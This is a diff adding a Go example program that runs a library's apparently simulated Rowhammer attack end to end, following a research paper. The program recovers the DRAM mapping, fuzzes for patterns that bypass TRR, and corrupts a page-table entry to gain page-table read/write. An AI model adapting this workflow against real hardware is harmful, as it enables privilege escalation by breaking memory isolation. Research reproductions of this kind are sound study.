@@ -1,0 +1,78 @@
+// Full chain: the complete ρHammer workflow end to end, exactly as the
+// paper's Fig. 5 lays it out — reverse-engineer the mapping, tune the
+// counter-speculation pseudo-barrier, fuzz for TRR-bypassing patterns,
+// refine the campaign winner, sweep it across physical locations, and
+// finally run the PTE-corruption exploit.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"rhohammer"
+)
+
+func main() {
+	atk, err := rhohammer.NewAttack(rhohammer.Options{
+		Arch: rhohammer.RaptorLake(),
+		DIMM: rhohammer.DIMMS4(),
+		Seed: 99,
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("target: %s with %s\n\n", atk.Arch(), atk.DIMM())
+
+	// ① Reverse-engineer the DRAM address mapping (Algorithm 1).
+	re := atk.RecoverMappingDetailed()
+	if !re.OK() {
+		log.Fatalf("step 1 failed: %v", re.Err)
+	}
+	fmt.Printf("[1] mapping recovered in %.1fs simulated (%d measurements)\n",
+		re.Seconds(), re.Measurements)
+
+	// ② Tune the NOP pseudo-barrier for this platform.
+	tune, err := atk.TuneCounterSpec()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("[2] counter-speculation tuned: %d NOPs (%d flips in the probe)\n",
+		tune.BestNops, tune.BestFlips)
+
+	// ③ Fuzz for effective non-uniform patterns.
+	rep, err := atk.Fuzz(rhohammer.FuzzOptions{Patterns: 10})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("[3] fuzzing: %d/%d patterns effective, %d flips; best = %d flips\n",
+		rep.Effective, rep.Tried, rep.TotalFlips, rep.Best.Flips)
+	if rep.Best.Pattern == nil {
+		log.Fatal("no effective pattern; increase the budget or change the seed")
+	}
+
+	// ④ Refine the winner by hill climbing over mutations.
+	ref, err := atk.Refine(rep.Best.Pattern, 4)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("[4] refinement: %d rounds, %d improvements, best now %d flips\n",
+		ref.Rounds, ref.Improvements, ref.Best.Flips)
+
+	// ⑤ Sweep (template) the refined pattern across fresh locations.
+	sw, err := atk.Sweep(ref.Best.Pattern, rhohammer.SweepOptions{Locations: 12})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("[5] sweep: %d flips over 12 locations (%.0f flips/min simulated)\n",
+		sw.TotalFlips, sw.FlipsPerMinute())
+
+	// ⑥ End-to-end exploitation.
+	ex, err := atk.Exploit(rhohammer.ExploitOptions{Regions: 10})
+	if err != nil {
+		log.Fatalf("step 6 failed: %v", err)
+	}
+	fmt.Printf("[6] exploit: %d templated flips, %d exploitable, PTE %#x corrupted\n",
+		ex.TotalFlips, len(ex.Exploitable), ex.VictimPTEAddr)
+	fmt.Printf("\npage-table read/write achieved in %.1f simulated seconds end-to-end\n",
+		ex.TotalTimeNS()/1e9)
+}
